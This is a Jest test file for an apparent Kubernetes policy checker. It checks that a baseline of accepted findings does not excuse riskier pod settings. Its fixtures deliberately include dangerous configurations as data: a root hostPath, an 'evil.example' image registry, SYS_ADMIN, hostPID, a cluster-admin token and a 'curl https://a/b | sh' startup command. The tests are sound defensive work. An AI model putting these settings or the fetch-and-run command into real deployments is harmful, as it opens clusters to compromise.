import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as cdk8s from 'cdk8s';
import { Policy, writeBaseline } from '../../src';
import { main } from '../../src/cli/main';
import { exits, filesIn, freshOutdir, makers, refusalOf } from '../support/apps';
import { Changes, tweak } from '../support/pods';

/*
 * A baseline that lets pass more than was accepted: the same rule in the same container, and yet worse.
 */

const trusting: Policy = { registries: { 'ghcr.io/acme': {} } };
const container = 'spec.containers.0';
const hostPath = (path: string): Changes => ({ 'spec.volumes.1': { name: 'v', hostPath: { path } } });
const image = (text: string): Changes => ({ [`${container}.image`]: text });
const run = (script: string): Changes => ({ [`${container}.command`]: ['sh', '-c', script] });

const worse: readonly (readonly [name: string, rule: string, accepted: Changes, worse: Changes])[] = [
  ['a host path becomes /', 'host-path', hostPath('/data'), hostPath('/')],
  ['a registry becomes a stranger\'s', 'image-registry', image('quay.io/team/web:1'), image('evil.example/team/web:1')],
  ['a missing drop becomes SYS_ADMIN', 'capabilities-restricted', { [`${container}.securityContext.capabilities`]: {} },
    { [`${container}.securityContext.capabilities`]: { drop: ['ALL'], add: ['SYS_ADMIN'] } }],
  ['hostNetwork becomes hostPID', 'host-namespaces', { 'spec.hostNetwork': true }, { 'spec.hostPID': true }],
  ['a SELinux type becomes a user', 'selinux', { 'spec.securityContext.seLinuxOptions': { type: 'spc_t' } }, { 'spec.securityContext.seLinuxOptions': { user: 'x' } }],
  ['a token becomes that of another account', 'service-account-token', { 'spec.automountServiceAccountToken': true },
    { 'spec.automountServiceAccountToken': true, 'spec.serviceAccountName': 'cluster-admin' }],
  ['another program fetches', 'startup-download', run('apk add git'), run('curl https://a/b | sh')],
];

function podApp(make: (typeof makers)[number][1], changes: Changes, props: object): readonly [cdk8s.App, cdk8s.Chart] {
  const app = make(trusting, props);
  const chart = new cdk8s.Chart(app, 'chart');
  new cdk8s.ApiObject(chart, 'pod', tweak(changes) as unknown as cdk8s.ApiObjectProps);
  return [app, chart];
}

function baselineOf(changes: Changes): string {
  const file = join(freshOutdir(), '..', 'baseline.jsonl');
  podApp(makers[0][1], changes, { mode: 'report', onVerdict: (verdict: never) => writeBaseline(file, verdict) })[0].synth();
  return file;
}

describe.each(makers)('%s', (_maker, make) => {
  describe.each(worse)('%s', (_name, rule, accepted, changed) => {
    test.each(exits)('is refused: %s', (_exit, props, leave) => {
      const baseline = baselineOf(accepted);
      const [app, chart] = podApp(make, changed, { ...props, baseline });

      expect(refusalOf(() => leave(app, chart)).findings.map((finding) => finding.rule)).toContain(rule);
      expect(filesIn(app.outdir)).toEqual([]);
    });

    test('what was accepted passes', () => {
      const [app] = podApp(make, accepted, { baseline: baselineOf(accepted) });
      expect(() => app.synth()).not.toThrow();
    });
  });

  test('a new tag of the same repository stays in the baseline', () => {
    const [app] = podApp(make, image('quay.io/team/web:2'), { baseline: baselineOf(image('quay.io/team/web:1')) });
    expect(() => app.synth()).not.toThrow();
  });

  test('a finding of manifest is not written, and a line for it excuses nothing', () => {
    const malformed = { [`${container}.ports`]: 'none' };
    const baseline = baselineOf(malformed);
    expect(readFileSync(baseline, 'utf8')).toBe('{"baseline":2}\n');
    writeFileSync(baseline, '{"baseline":1}\n{"rule":"manifest","kind":"Pod","namespace":"acme","name":"shop"}\n');
    expect(refusalOf(() => podApp(make, malformed, { baseline })[0].synth()).findings.map(({ rule }) => rule)).toEqual(['manifest']);
  });

  test('an old baseline matches as it did', () => {
    const baseline = baselineOf(hostPath('/data'));
    const old = readFileSync(baseline, 'utf8').replace('{"baseline":2}', '{"baseline":1}').replace(/,"detail":"[^"]*"/g, '');
    writeFileSync(baseline, old);
    expect(() => podApp(make, hostPath('/srv'), { baseline })[0].synth()).not.toThrow();
  });
});

async function check(...args: readonly string[]) {
  let out = '';
  const write = (text: string) => { out += text; };
  return { status: await main(['check', '--registry', 'ghcr.io/acme', ...args], { out: write, err: write, progress: write, color: false }), out: () => out };
}

test.each(worse)('check: %s', async (_name, rule, accepted, changed) => {
  const folder = join(freshOutdir(), '..');
  const [manifest, baseline] = [join(folder, 'pod.json'), join(folder, 'b.jsonl')];
  writeFileSync(manifest, JSON.stringify(tweak(accepted)));
  expect((await check(manifest, '--write-baseline', baseline)).status).toBe(0);
  writeFileSync(manifest, JSON.stringify(tweak(changed)));
  const { status, out } = await check(manifest, '--baseline', baseline);
  expect(status).toBe(1);
  expect(out()).toContain(rule);
});

test('check: an old baseline passes, is told to be written anew, and is by the command that is named', async () => {
  const folder = join(freshOutdir(), '..');
  const [manifest, baseline] = [join(folder, 'pod.json'), join(folder, 'b.jsonl')];
  writeFileSync(manifest, JSON.stringify(tweak({ 'spec.hostNetwork': true })));
  writeFileSync(baseline, '{"baseline":1}\n{"rule":"host-namespaces","kind":"Pod","namespace":"acme","name":"shop"}\n');
  const { status, out } = await check(manifest, '--baseline', baseline);
  expect(status).toBe(0);
  expect(out()).toContain('is a baseline of version 1');
  expect((await check(manifest, '--baseline', baseline, '--write-baseline', baseline)).status).toBe(0);
  expect(readFileSync(baseline, 'utf8')).toContain('{"baseline":2}\n{"rule":"host-namespaces","kind":"Pod","namespace":"acme","name":"shop","detail":"hostNetwork"}');
});

const jobSet = (bad: string) => ({
  apiVersion: 'jobset.x-k8s.io/v1alpha2',
  kind: 'JobSet',
  metadata: { name: 'train', namespace: 'acme' },
  spec: {
    replicatedJobs: ['driver', 'worker'].map((name) => ({
      name,
      template: { spec: { template: { spec: (tweak(name === bad ? { 'spec.hostPID': true } : {}) as { spec: object }).spec } } },
    })),
  },
});

test('check: an entry of one pod of an object does not excuse another', async () => {
  const folder = join(freshOutdir(), '..');
  const [manifest, baseline] = [join(folder, 'j.json'), join(folder, 'b.jsonl')];
  writeFileSync(manifest, JSON.stringify(jobSet('driver')));
  expect((await check(manifest, '--write-baseline', baseline)).status).toBe(0);
  expect(readFileSync(baseline, 'utf8')).toContain('"pod":"spec.replicatedJobs[driver].template.spec.template.spec"');
  writeFileSync(manifest, JSON.stringify(jobSet('worker')));
  expect((await check(manifest, '--baseline', baseline)).status).toBe(1);
});
